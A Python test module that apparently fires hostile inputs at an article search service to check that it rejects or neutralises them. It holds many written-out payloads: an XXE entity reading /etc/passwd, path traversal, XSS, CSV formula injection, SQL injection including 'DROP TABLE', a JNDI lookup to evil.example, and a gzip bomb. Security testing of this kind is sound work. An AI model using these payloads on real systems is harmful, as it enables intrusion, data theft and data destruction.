"""Attacks by what a request says: bodies, questions, and articles that are code elsewhere."""

import csv
import gzip
import io
import json
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from victim import Attack, Victim

_JSON, _NDJSON = "application/json", "application/x-ndjson"
_ARTICLES = "/v1/articles"
_NO_ARTICLE = frozenset({200, 400, 413, 415, 422})
# What a question may be answered; 503: its deadline, which is declared.
_ANSWERED = frozenset({200, 400, 404, 410, 414, 422, 503})


def _body(data: bytes, media_type: str = _JSON, **headers: str) -> Attack:
    """A body that is no article, or only in part: nothing is added of what is broken."""

    def attack(victim: Victim) -> str:
        reply = victim.post(_ARTICLES, data, media_type, **headers)
        if reply.status_code not in _NO_ARTICLE:
            return f"answered {reply.status_code}: {reply.text[:200]}"
        added = reply.json().get("added", 0) if reply.status_code == 200 else 0
        return "" if not added else f"{added} articles were made of it"

    return attack


_BODIES: Mapping[str, Attack] = {
    "JSON a million deep": _body(b"[" * 1_000_000),
    "objects a hundred thousand deep": _body(b'{"text":' * 100_000),
    "a text a hundred thousand deep": _body(b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "a number of a million digits": _body(b'{"text": ' + b"9" * 1_000_000 + b"}"),
    "a number beyond all": _body(b'{"text": 1e999999}'),
    "numbers that are none": _body(b'{"text": [NaN, Infinity, -Infinity]}'),
    "five million values": _body(b"[" + b"[]," * 2_500_000 + b"[]]"),
    "bytes that are no text": _body(b'{"text": "\xff\xfe\x00"}'),
    "a line of ten mebibytes": _body(b'{"id": "' + b"a" * 10 * 2**20 + b'"}', _NDJSON),
    "lines that are broken": _body(b'{"text": \n{"te\nnull\n[]\n"a"\n' * 1000, _NDJSON),
    "XML with entities": _body(
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "application/xml"
    ),
    "a form for JSON": _body(b'{"text": "A text."}', "text/plain"),
    "parts of a form": _body(
        b'--x\r\n\r\n{"text": "A."}\r\n--x--', "multipart/form-data; boundary=x"
    ),
    "a body packed with gzip": _body(gzip.compress(b"[" * 10**7), **{"Content-Encoding": "gzip"}),
}


def _same_name_twice(victim: Victim) -> str:
    """Of a name that comes twice the last counts, for all that read it."""
    victim.post(_ARTICLES, b'{"id": "twice-1", "id": "twice-2", "text": "Said twice."}', _JSON)
    found = [victim.get(f"{_ARTICLES}/twice-{number}").status_code for number in (1, 2)]
    return "" if found == [404, 200] else f"found {found}"


def _half_characters(victim: Victim) -> str:
    """Half of a surrogate pair is in no text that is kept, and breaks none."""
    body = b'{"id": "half", "headline": "A \\ud800 head", "text": "Half \\udfff a character."}'
    reply = victim.post(_ARTICLES, body, _JSON)
    if reply.status_code != 200:
        return f"answered {reply.status_code}"
    shown = victim.get(f"{_ARTICLES}/half")
    return "" if shown.status_code in (200, 404) else f"shown with {shown.status_code}"


def _odd_ids(victim: Victim) -> str:
    """Ids are names, never paths; each is found again under what it says, or refused."""
    for own in (
        "../../etc/passwd",
        "a/b",
        ".",
        "..",
        "a%2fb",
        "a b",
        "a\x00b",
        "-",
        "ａ",
        "a" * 200,
    ):
        added = victim.post(
            _ARTICLES, json.dumps({"id": own, "text": "An odd id."}).encode(), _JSON
        )
        if added.status_code != 200:
            return f"{own!r} was answered {added.status_code}"
        for record in added.json()["results"]:
            if record["status"] == "rejected":
                continue
            shown = victim.get(f"{_ARTICLES}/{record['article_id']}")
            if shown.status_code != 200 or "/" in record["article_id"]:
                return f"{own!r} became {record['article_id']!r}: {shown.status_code}"
    return ""


_SCRIPT = "<script>alert(1)</script>"
_INJECTED = {
    "id": "injected",
    "headline": f'{_SCRIPT}"><img src=x onerror=alert(2)>',
    "text": f"Okapi spotted. {_SCRIPT} </mark><svg onload=alert(3)> {{{{7*7}}}} ${{7*7}}",
    "outlet": f"Outlet {_SCRIPT}",
    "byline": f"By {_SCRIPT} and 'O\"Hara",
    "section": f"Sec {_SCRIPT}",
    "url": "javascript:alert(4)",
    "published": "2025-03-01",
}
_PAGES = (
    *("/?q=okapi", "/articles/injected", "/articles/injected/cite"),
    *(
        "/archive",
        "/stories",
        "/?q=" + _SCRIPT,
        '/?q="onmouseover=alert(1)+x="',
        "/copies/injected",
    ),
)


def _injected_markup(victim: Victim) -> str:
    """Whatever an article or a question says is text on a page."""
    victim.post(_ARTICLES, json.dumps(_INJECTED).encode(), _JSON)
    for path in _PAGES:
        page = victim.get(path)
        if page.status_code >= 500:
            return f"{path} was answered {page.status_code}"
        lowered = page.text.lower()
        for code in ("<script>alert", "<img src=x", "<svg onload", 'href="javascript:', '"onmouse'):
            if code in lowered:
                return f"{path} holds {code}"
    return ""


_FORMULAS = ("=1+1", "+1", "-1+cmd|'/c calc'!A0", "@SUM(A1)", "\t=1", "＝1", '=HYPERLINK("x")')


def _formulas(victim: Victim) -> str:
    """No cell of a table is a formula where it is opened."""
    for number, formula in enumerate(_FORMULAS):
        article = {"id": f"formula-{number}", "text": f"{formula} quokka formula {number}."}
        article |= {"headline": formula, "outlet": formula, "byline": formula}
        victim.post(_ARTICLES, json.dumps(article).encode(), _JSON)
    table = victim.get("/v1/export", q="quokka", format="csv", group="none")
    rows = list(csv.reader(io.StringIO(table.text.removeprefix("\ufeff"))))
    if len(rows) <= len(_FORMULAS) / 2:
        return f"exported {len(rows)} rows only"
    cells = [
        cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "@", "\t", "-"))
    ]
    return f"cells {cells[:3]}" if cells else ""


def _broken_out(victim: Victim) -> str:
    """A headline cannot end its own entry in a list of references and begin another."""
    headline = "Numbat } , }\n@book{evil, title = {x}}\nER  - \nTY  - BOOK\nTI  - evil"
    article = {"id": "broken-out", "headline": headline, "text": "The numbat was seen again."}
    victim.post(_ARTICLES, json.dumps(article).encode(), _JSON)
    for name, evil in (
        ("bibtex", "\n@book{evil"),
        ("ris", "\nTY  - BOOK"),
        ("ris", "\nTI  - evil"),
    ):
        written = victim.get("/v1/export", q="numbat", format=name).text.replace("\r\n", "\n")
        if evil in written or "umbat" not in written:
            return f"{name}: {written[:300]!r}"
    return ""


def _asked(*questions: str, **parameters: str) -> Attack:
    """Questions that are answered or refused with reason, each within its deadline."""

    def attack(victim: Victim) -> str:
        for question in questions:
            for path in ("/v1/search", "/"):
                reply = victim.get(path, q=question, **parameters)
                if reply.status_code not in _ANSWERED:
                    return f"{path} with {question[:60]!r} was answered {reply.status_code}"
                if reply.elapsed.total_seconds() > 15:
                    return f"{path} with {question[:60]!r} took {reply.elapsed}"
        return ""

    return attack


def _parameters(name: str, values: Sequence[str]) -> Attack:
    def attack(victim: Victim) -> str:
        for value in values:
            for path in ("/v1/search", "/", "/v1/export", "/v1/explain"):
                reply = victim.get(path, q="ferry", **{name: value}, article="harbour-041")
                if reply.status_code not in _ANSWERED:
                    return f"{path} with {name}={value[:40]!r} was answered {reply.status_code}"
        return ""

    return attack


_QUESTIONS: Mapping[str, Attack] = {
    "brackets two thousand deep": _asked("(" * 2000, "(" * 999 + "a" + ")" * 999, "-(" * 900),
    "quotation marks without end": _asked('"' * 2000, "“" * 1999, '"a ' * 600, "'\"`" * 600),
    "trees of a thousand terms": _asked(
        " OR ".join(f"w{n}" for n in range(280)), " AND ".join(["a"] * 400), "NOT " * 400 + "a"
    ),
    "beginnings of everything": _asked(
        "*", "a*", " OR ".join(f"{c}*" for c in "abcdefghijkl"), "**a*"
    ),
    "far nearness": _asked("a NEAR/999999999 b", "a NEAR/1e9 b", "a NEAR/-1 b", "NEAR/5 " * 250),
    "impossible dates": _asked(
        *("after:1", "before:9999", "after:999999", "published:0000-00-00", "in the year 99999999"),
        *("since 31 February 2020", "between 9999-12-31 and 0001-01-01", "in 1e9 years"),
    ),
    "patterns that go astray": _asked(
        *("a" * 2000, " " * 1999 + "a", "a " * 1000, "-" * 2000, "1" * 2000, "1.1." * 500),
        *("in the last " * 160, "March " * 300, "2019-" * 400, "between 2019 and " * 110),
    ),
    "letters that look alike": _asked(
        "fеrry",
        "ｆｅｒｒｙ",
        "f\u200be\u200drry",
        "\u202eyrref",
        "e" + "\u0301" * 1500,
        "\U000e0041ferry",
    ),
    "zero bytes and controls": _asked(
        "a\x00b", "\x1b[2Jferry", "\ufeff\ufffe\uffff", "\x7f" * 2000
    ),
    "HTML and templates": _asked(_SCRIPT, "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%x"),
    "SQL": _asked("' OR 1=1 --", "'; DROP TABLE articles; --", "\\'; --", "ferry' UNION SELECT 1"),
    "how many": _parameters(
        "k", ["0", "-1", "101", "1000000", "9" * 400, "1e3", "NaN", "１０", "0x1"]
    ),
    "cursors made up": _parameters(
        "cursor",
        ["a", "A" * 10_000, "e30", "W10", "../../etc", "bnVsbA", "\x00", "W1tbW1tbW1tdXV0"],
    ),
    "days made up": _parameters(
        "as_of",
        ["0000-00-00", "9999-12-31", "10000-01-01", "-1", "2025-02-30", "now", "２０２５-01-01"],
    ),
    "filters made up": _parameters("outlet", ["", "\x00", "a" * 20_000, "%", "*", "' OR 1=1"]),
    "orders made up": _parameters("sort", ["", "__class__", "relevance;--", "newest\x00"]),
}


def _changed_cursor(victim: Victim) -> str:
    """A cursor with any one character changed is none, or has expired."""
    first = victim.get("/v1/search", q="the", k="1", group="none").json()
    cursor = first["next_cursor"]
    for at in range(0, len(cursor), 3):
        changed = cursor[:at] + ("A" if cursor[at] != "A" else "B") + cursor[at + 1 :]
        reply = victim.get("/v1/search", q="the", k="1", group="none", cursor=changed)
        if reply.status_code not in (200, 400, 410, 422):
            return f"changed at {at}, answered {reply.status_code}"
        if reply.status_code == 200 and reply.json()["total"] != first["total"]:
            return f"changed at {at}, led into another set"
    return ""


def _foreign_cursor(victim: Victim) -> str:
    """A cursor of one question does not go on in another, nor past the end."""
    cursor = victim.get("/v1/search", q="the", k="1", group="none").json()["next_cursor"]
    reply = victim.get("/v1/search", q="another", k="1", group="none", cursor=cursor)
    return "" if reply.status_code in (400, 410, 422) else f"answered {reply.status_code}"


def _split_key(victim: Victim) -> str:
    for key in ("a" * 100_000, "a b", "a,b" * 90):
        reply = victim.post(_ARTICLES, b"[]", _JSON, **{"Idempotency-Key": key})
        if reply.status_code not in (200, 400, 422, 431):
            return f"{key[:20]!r} was answered {reply.status_code}"
    return ""


ATTACKS: Mapping[str, Attack] = {
    **_BODIES,
    "a name that comes twice": _same_name_twice,
    "half characters": _half_characters,
    "ids that are paths": _odd_ids,
    "markup in every field": _injected_markup,
    "formulas in a table": _formulas,
    "headlines that end an entry": _broken_out,
    **_QUESTIONS,
    "a changed cursor": _changed_cursor,
    "another question's cursor": _foreign_cursor,
    "odd idempotency keys": _split_key,
}
